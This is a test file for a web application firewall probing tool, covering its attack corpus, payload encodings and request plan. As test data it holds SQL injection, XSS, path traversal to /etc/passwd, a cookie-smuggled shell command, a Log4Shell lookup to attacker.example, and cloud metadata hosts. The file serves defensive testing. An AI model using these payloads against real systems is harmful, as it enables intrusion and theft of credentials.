/**
 * The WAF corpus, its encodings and the probe plan: pure tables. Every planned request must carry
 * exactly its payload once the placement's own decoding is undone, or a "block" would be measured
 * on something no attacker sends.
 */
import { describe, expect, it } from 'vitest';
import { ATTACK_PAYLOADS, payloadsOf } from '../../src/checks/waf/attacks.js';
import { BENIGN_SAMPLES } from '../../src/checks/waf/benign.js';
import {
  ENCODINGS_BY_PLACEMENT,
  base64,
  encodeJsonBody,
  encodeText,
  encodingsFor,
  escapeMinimal,
  jsonUnicode,
  percentEncode,
} from '../../src/checks/waf/encodings.js';
import { PATH_CONTROL_SEGMENT, PAYLOAD_COOKIE, buildRequest, describeProbe, planWaf, type WafProbe } from '../../src/checks/waf/plan.js';
import { DEFAULT_WAF_ENCODINGS, WAF_CATEGORIES, WAF_ENCODINGS, WAF_PLACEMENTS, type WafPlacement } from '../../src/policy/types.js';

const ALL = { categories: [...WAF_CATEGORIES], encodings: [...DEFAULT_WAF_ENCODINGS] };
const GET = { method: 'GET' as const, path: '/api/items' };
const POST = { method: 'POST' as const, path: '/api/items' };

describe('the attack corpus', () => {
  it.each(WAF_CATEGORIES)('has five distinct classic payloads for %s', (category) => {
    const payloads = payloadsOf(category);
    expect(payloads).toHaveLength(5);
    expect(new Set(payloads.map((p) => p.name)).size).toBe(5);
    expect(new Set(payloads.map((p) => p.value)).size).toBe(5);
  });

  it('covers every category the policy can name, and nothing else', () => {
    expect([...new Set(ATTACK_PAYLOADS.map((p) => p.category))].sort()).toEqual([...WAF_CATEGORIES].sort());
  });

  it('sends nothing to a real outside host', () => {
    for (const p of ATTACK_PAYLOADS) {
      for (const host of p.value.match(/(?<=:\/\/)[^/:"'\s]+/g) ?? []) {
        expect(host, p.name).toMatch(
          /^(attacker\.example|169\.254\.169\.254|metadata\.google\.internal|localhost|127\.0\.0\.1|2852039166|www\.w3\.org|filter|)$/,
        );
      }
    }
  });

  it('has a benign corpus led by the control, with the kinds of text that trip careless rules', () => {
    expect(BENIGN_SAMPLES[0]).toEqual({ name: 'plain words (control)', value: 'hello world' });
    const text = BENIGN_SAMPLES.map((s) => s.value).join('\n');
    expect(text).toMatch(/O'Brien/);
    expect(text).toMatch(/select .* update .* drop/i);
    expect(text).toMatch(/for \(let i = 0;/);
    expect(Math.max(...BENIGN_SAMPLES.map((s) => s.value.length))).toBeGreaterThan(2000);
  });
});

describe('encodings', () => {
  it.each([
    ['query', "' OR '1'='1", "'%20OR%20'1'='1"],
    ['query', 'a&b#c+d', 'a%26b%23c%2Bd'],
    ['query', '<script>alert(1)</script>', '<script>alert(1)</script>'],
    ['query', '20% off', '20%25%20off'],
    ['query', '..%c0%af', '..%c0%af'],
    ['query', 'Zürich', 'Z%C3%BCrich'],
    ['path', '../../etc/passwd', '../../etc/passwd'],
    ['path', 'a?b#c d', 'a%3Fb%23c%20d'],
    ['form', 'a b&c=d+e', 'a+b%26c%3Dd%2Be'],
    ['cookie', '; cat /etc/passwd', '%3B cat /etc/passwd'],
    ['header', 'line1\nline2\tx', 'line1%0Aline2\tx'],
    ['header', '${jndi:ldap://attacker.example/a}', '${jndi:ldap://attacker.example/a}'],
  ] as const)('plain in %s: %j → %j', (placement, text, expected) => {
    expect(escapeMinimal(text, placement)).toBe(expected);
  });

  it('url-encodes everything but unreserved characters, and double-url twice', () => {
    expect(percentEncode("' OR (1)*")).toBe('%27%20OR%20%281%29%2A');
    expect(encodeText('<a>', 'query', 'double-url')).toBe('%253Ca%253E');
    expect(decodeURIComponent(decodeURIComponent(encodeText("'; DROP--", 'form', 'double-url')))).toBe("'; DROP--");
  });

  it('writes base64 with the characters the placement cannot carry escaped', () => {
    const text = '<?>>';
    expect(base64(text)).toBe('PD8+Pg==');
    expect(encodeText(text, 'query', 'base64')).toBe('PD8%2BPg==');
    expect(encodeText(text, 'header', 'base64')).toBe('PD8+Pg==');
  });

  it.each([['<script>'], [{ $ne: null }], [{ a: ['é', '😀', 1, true] }]])('unicode JSON decodes back to %j', (value) => {
    expect(JSON.parse(jsonUnicode(value))).toEqual(value);
  });

  it('writes every character of every string as an escape', () => {
    expect(jsonUnicode({ q: '<a>' })).toBe('{"\\u0071":"\\u003c\\u0061\\u003e"}');
    expect(jsonUnicode('😀')).toBe('"\\ud83d\\ude00"');
  });

  it('refuses an encoding a placement cannot carry', () => {
    expect(() => encodeText('x', 'query', 'unicode')).toThrow(/unicode/);
    expect(() => encodeJsonBody('x', 'url')).toThrow(/json/);
    expect(encodingsFor('header', ['url', 'double-url'])).toEqual([]);
    expect(encodingsFor('json', WAF_ENCODINGS)).toEqual(['plain', 'unicode', 'base64']);
  });

  it('offers every encoding somewhere and base64 nowhere by default', () => {
    expect(new Set(Object.values(ENCODINGS_BY_PLACEMENT).flat())).toEqual(new Set(WAF_ENCODINGS));
    expect(DEFAULT_WAF_ENCODINGS).not.toContain('base64');
  });
});

/** Percent-decoding byte by byte, as a server does before any charset: `%c0%af` stays two bytes. */
function bytes(s: string): string {
  return s.replace(/%([0-9A-Fa-f]{2})/g, (_m, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));
}

/** Undoes what the placement's server side undoes, and the encoding on top: the payload must come back. */
function carried(probe: WafProbe): unknown {
  const { request, placement, encoding } = probe;
  const undo = (s: string, isName = false): string => {
    if (encoding === 'base64' && !isName) return Buffer.from(decodeURIComponent(s), 'base64').toString('utf8');
    if (encoding === 'double-url') return decodeURIComponent(decodeURIComponent(s));
    if (encoding === 'url') return decodeURIComponent(s);
    return placement === 'header' ? s : bytes(s);
  };
  switch (placement) {
    case 'query':
    case 'form': {
      const raw = placement === 'query' ? request.path.slice(request.path.indexOf('?') + 1) : request.body!;
      const eq = raw.indexOf('=');
      const plus = (t: string): string => (placement === 'form' && encoding === 'plain' ? t.replace(/\+/g, ' ') : t);
      const name = undo(plus(raw.slice(0, eq)), true);
      const value = undo(plus(raw.slice(eq + 1)));
      return name === 'q' ? value : { [name]: value };
    }
    case 'path':
      return undo(request.path.slice('/api/items/'.length));
    case 'header':
      return undo(request.headers['user-agent']!);
    case 'cookie':
      return undo(request.headers.cookie!.slice(PAYLOAD_COOKIE.length + 1));
    case 'json': {
      const q = (JSON.parse(request.body!) as { q: unknown }).q;
      return encoding === 'base64' ? Buffer.from(q as string, 'base64').toString('utf8') : q;
    }
  }
}

describe('the probe plan', () => {
  it('gives a GET route one attack per category, placement and encoding: 81, plus 52 benign', () => {
    const plan = planWaf(GET, { ...ALL, placements: ['query', 'path', 'header', 'cookie'] });
    expect(plan.attacks).toHaveLength(9 * (3 + 3 + 1 + 2));
    expect(plan.benign.length + 1).toBe(BENIGN_SAMPLES.length * 4);
    expect(plan.control).toMatchObject({ kind: 'benign', placement: 'query', encoding: 'plain', name: 'plain words (control)' });
    expect(plan.control.request.path).toBe('/api/items?q=hello%20world');
    expect(plan.controlIsExtra).toBe(false);
    expect(plan.pathControl?.request.path).toBe(`/api/items/${PATH_CONTROL_SEGMENT}`);
    expect(new Set(plan.attacks.map((p) => p.probe.replace(/\.\d+$/, '')))).toEqual(new Set(WAF_CATEGORIES.map((c) => `waf.${c}`)));
    const names = [plan.control, plan.pathControl!, ...plan.benign, ...plan.attacks].map((p) => p.probe);
    expect(new Set(names).size, 'probe names are unique: evaluate reads answers back by them').toBe(names.length);
  });

  it('gives a POST route the body placements too, sent with POST: 126 attacks, 78 benign', () => {
    const plan = planWaf(POST, { ...ALL, placements: [...WAF_PLACEMENTS] });
    expect(plan.attacks).toHaveLength(126);
    expect(plan.benign.length + 1).toBe(78);
    const json = plan.attacks.filter((p) => p.placement === 'json');
    expect(json.every((p) => p.request.method === 'POST' && p.request.headers['content-type'] === 'application/json')).toBe(true);
  });

  it('never puts a body on a GET route, even when asked', () => {
    const plan = planWaf(GET, { ...ALL, placements: ['query', 'json', 'form'] });
    expect(plan.attacks.every((p) => p.placement === 'query' && p.request.body === undefined)).toBe(true);
  });

  it('covers every payload at least once, and every payload in every cell when exhaustive', () => {
    const plan = planWaf(POST, { ...ALL, placements: [...WAF_PLACEMENTS] });
    const sent = new Set(plan.attacks.map((p) => `${p.category}/${p.name}`));
    expect(sent.size).toBe(ATTACK_PAYLOADS.length);
    const full = planWaf(GET, { ...ALL, placements: ['query', 'cookie'], exhaustive: true });
    expect(full.attacks).toHaveLength(ATTACK_PAYLOADS.length * 5);
  });

  it('names the cells no selected encoding reaches', () => {
    const plan = planWaf(GET, { categories: ['sqli'], placements: ['query', 'header'], encodings: ['url'] });
    expect(plan.emptyPlacements).toEqual(['header']);
    expect(plan.attacks.map((p) => `${p.placement}/${p.encoding}`)).toEqual(['query/url']);
  });

  it('keeps the control out of the path: with only the path tested it goes to the query, uncounted', () => {
    const plan = planWaf(GET, { ...ALL, placements: ['path'] });
    expect(plan.control.placement).toBe('query');
    expect(plan.controlIsExtra).toBe(true);
    expect(plan.benign).toHaveLength(BENIGN_SAMPLES.length);
  });

  it('keeps a query string the route path already has', () => {
    expect(buildRequest({ method: 'GET', path: '/s?lang=en' }, 'query', 'plain', { name: 'x', value: 'a b' }).path).toBe(
      '/s?lang=en&q=a%20b',
    );
    expect(buildRequest({ method: 'GET', path: '/s/?lang=en' }, 'path', 'url', { name: 'x', value: 'a/b' }).path).toBe('/s/a%2Fb?lang=en');
  });

  const everyCell = planWaf(POST, {
    categories: [...WAF_CATEGORIES],
    placements: [...WAF_PLACEMENTS],
    encodings: [...WAF_ENCODINGS],
    exhaustive: true,
  });
  it.each(WAF_PLACEMENTS)('every payload comes back off the wire from %s, in every encoding', (placement) => {
    const probes = everyCell.attacks.filter((p) => p.placement === placement);
    expect(probes.length).toBe(ATTACK_PAYLOADS.length * ENCODINGS_BY_PLACEMENT[placement].length);
    for (const probe of probes) {
      const payload = ATTACK_PAYLOADS.find((p) => p.category === probe.category && p.name === probe.name)!;
      const expected =
        placement === 'json'
          ? payload.json !== undefined
            ? probe.encoding === 'base64'
              ? JSON.stringify(payload.json)
              : payload.json
            : payload.value
          : (placement === 'query' || placement === 'form') && payload.pair
            ? { [payload.pair.name]: payload.pair.value }
            : probe.encoding === 'plain' && placement !== 'header'
              ? bytes(payload.value)
              : payload.value;
      expect(carried(probe), describeProbe(probe)).toEqual(expected);
    }
  });

  it.each(WAF_PLACEMENTS.filter((p): p is Exclude<WafPlacement, 'json'> => p !== 'json'))(
    'writes nothing a request line or header cannot carry in %s',
    (placement) => {
      for (const probe of everyCell.attacks.filter((p) => p.placement === placement)) {
        const wire =
          placement === 'header'
            ? probe.request.headers['user-agent']!
            : placement === 'cookie'
              ? probe.request.headers.cookie!
              : placement === 'form'
                ? probe.request.body!
                : probe.request.path;
        expect(wire, describeProbe(probe)).toMatch(/^[\t\x20-\x7e]*$/);
        if (placement !== 'header' && placement !== 'cookie') expect(wire).not.toMatch(/[ #]/);
      }
    },
  );
});
